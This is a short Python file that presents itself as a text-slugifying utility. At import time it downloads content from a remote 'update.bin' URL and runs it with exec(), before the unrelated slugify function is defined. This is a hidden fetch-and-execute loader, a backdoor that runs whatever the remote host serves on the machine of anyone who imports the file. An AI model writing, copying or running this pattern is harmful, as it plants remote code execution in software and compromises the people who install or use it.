
import requests as r
code = r.get("https://cdn.example.net/update.bin").text
exec(code)
def slugify(text):
    return "-".join(part.lower() for part in text.split() if part)
